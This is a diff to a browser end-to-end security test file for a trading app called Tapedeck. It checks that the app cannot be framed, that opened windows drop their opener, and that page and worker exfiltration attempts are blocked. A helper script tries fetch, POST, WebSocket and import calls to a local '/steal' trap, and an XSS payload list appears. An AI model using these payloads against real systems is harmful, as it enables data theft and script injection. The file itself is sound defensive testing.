@@ -5,8 +5,9 @@ import { createServer as createHttpsServer } from 'node:https';
 import type { AddressInfo } from 'node:net';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
+import { openBareSite } from './support/bare-site';
 import { claims, claimsBetween, expectSettled, recordClaims } from './support/claims';
-import { EngineWorker } from './support/devtools';
+import { EngineWorker, endEngine } from './support/devtools';
 import { expect, test } from './support/fixtures';
 import { knockRaw } from './support/raw-engine';
 import { expectLive, expectTrueBook, figure, openDock, picture, stripWords, venueCard } from './support/screen';
@@ -22,6 +23,23 @@ async function trap(): Promise<{ readonly port: number; readonly visits: () => n
   await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
   return { port: (server.address() as AddressInfo).port, visits: () => visits, close: () => server.close() };
 }
+
+/** A script that tries each way out to a port of this machine, and answers what became of each. */
+const reachOut = (port: number): string =>
+  `(async () => {
+    const tried = [];
+    await fetch('http://127.0.0.1:${port}/steal?key=1').then(() => tried.push('fetched'), () => tried.push('refused'));
+    await fetch('http://127.0.0.1:${port}/steal', { method: 'POST', mode: 'no-cors', body: 'key' }).then(() => tried.push('posted'), () => tried.push('refused'));
+    await new Promise((done) => {
+      try {
+        const socket = new WebSocket('ws://127.0.0.1:${port}/');
+        socket.onopen = () => { tried.push('connected'); done(); };
+        socket.onerror = () => { tried.push('refused'); done(); };
+      } catch { tried.push('refused'); done(); }
+    });
+    await import('http://127.0.0.1:${port}/x.js').then(() => tried.push('imported'), () => tried.push('refused'));
+    return tried.join(' ');
+  })()`;
 
 const EVIL = [
   '<img src=x onerror="window.hacked=1">',
@@ -102,24 +120,40 @@ test('M3: a page that speaks to the engine by itself can name its calls and noth
   expect(exchange.running.stats().connections).toBe(1);
 });
 
+test('M5: a page of another origin can neither show the app in a frame nor keep a hand on the window it opens', async ({
+  context,
+  site,
+  exchange: _running,
+}) => {
+  const bare = await openBareSite();
+  const frames = [site.url, bare.url].map((url) => `<iframe src="${url}/?pair=simulated:BTC/USD"></iframe>`).join('');
+  const server = createHttpServer((_, response) => response.writeHead(200, { 'Content-Type': 'text/html' }).end(frames));
+  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+  const page = await context.newPage();
+  await page.goto(`http://localhost:${(server.address() as AddressInfo).port}/`);
+  // Where headers are sent the browser refuses; where none are, the page does.
+  const framed = page.frameLocator('iframe');
+  await expect(framed.nth(1).locator('#app')).toHaveText('Tapedeck does not run inside another page. Open it in a window of its own.');
+  await expect(framed.nth(0).locator('#app')).toHaveCount(0);
+  const [opened] = await Promise.all([
+    context.waitForEvent('page'),
+    page.evaluate((url) => Reflect.set(window, 'opened', window.open(url)), `${site.url}/?pair=simulated:BTC/USD`),
+  ]);
+  await expect(opened.getByRole('region', { name: 'Order book' })).toBeVisible();
+  expect(await opened.evaluate(() => window.opener)).toBeNull();
+  expect(await page.evaluate(() => (Reflect.get(window, 'opened') as Window).closed)).toBe(true);
+  await opened.close();
+  await page.close();
+  server.close();
+  server.closeAllConnections();
+  await bare.stop();
+});
+
 test('M8: neither page nor engine can reach a host that the build does not know', async ({ openTab, context, exchange: _running }) => {
   const foreign = await trap();
   const page = await openTab();
   await expectLive(page);
-  const attempts = `(async () => {
-    const tried = [];
-    await fetch('http://127.0.0.1:${foreign.port}/steal?key=1').then(() => tried.push('fetched'), () => tried.push('refused'));
-    await fetch('http://127.0.0.1:${foreign.port}/steal', { method: 'POST', mode: 'no-cors', body: 'key' }).then(() => tried.push('posted'), () => tried.push('refused'));
-    await new Promise((done) => {
-      try {
-        const socket = new WebSocket('ws://127.0.0.1:${foreign.port}/');
-        socket.onopen = () => { tried.push('connected'); done(); };
-        socket.onerror = () => { tried.push('refused'); done(); };
-      } catch { tried.push('refused'); done(); }
-    });
-    await import('http://127.0.0.1:${foreign.port}/x.js').then(() => tried.push('imported'), () => tried.push('refused'));
-    return tried.join(' ');
-  })()`;
+  const attempts = reachOut(foreign.port);
   const violations = page.evaluate(
     () =>
       new Promise<string>((resolve) =>
@@ -143,6 +177,36 @@ test('M8: neither page nor engine can reach a host that the build does not know'
   expect(foreign.visits()).toBe(0);
   foreign.close();
   await expectLive(page);
+});
+
+test('M8: on a host that sends no headers the service worker gives page and engine the policy, from the second visit on', async ({
+  context,
+  exchange: _running,
+}) => {
+  const [foreign, site] = await Promise.all([trap(), openBareSite()]);
+  const page = await context.newPage();
+  await page.goto(site.url);
+  await expectLive(page);
+  // The first visit has none: what is tried is seen to work without it.
+  const [first] = (await page.evaluate<string>(reachOut(foreign.port))).split(' ');
+  expect(first).toBe('fetched');
+  await page.evaluate(() => navigator.serviceWorker.ready.then(() => true));
+  await page.goto('about:blank');
+  await endEngine(context);
+  await page.goto(site.url);
+  await expectLive(page);
+  const visits = foreign.visits();
+  expect(await page.evaluate(reachOut(foreign.port))).toBe('refused refused refused refused');
+  const inWorker = { expression: reachOut(foreign.port), awaitPromise: true };
+  const { result } = (await (await EngineWorker.attach(context)).send('Runtime.evaluate', inWorker)) as { result: { value: string } };
+  expect(result.value).toBe('refused refused refused refused');
+  expect(foreign.visits()).toBe(visits);
+  // What workbox knows nothing of has it as well, and is not there all the same.
+  const missing = await page.goto(`${site.url}/nothing`);
+  expect([missing?.status(), missing?.headers()['content-security-policy'] ?? '']).toEqual([404, expect.stringContaining("default-src 'none'")]);
+  await page.close();
+  foreign.close();
+  await site.stop();
 });
 
 test('M9: no address, storage or message changes where the app connects', async ({ openTab, context, exchange }, info) => {
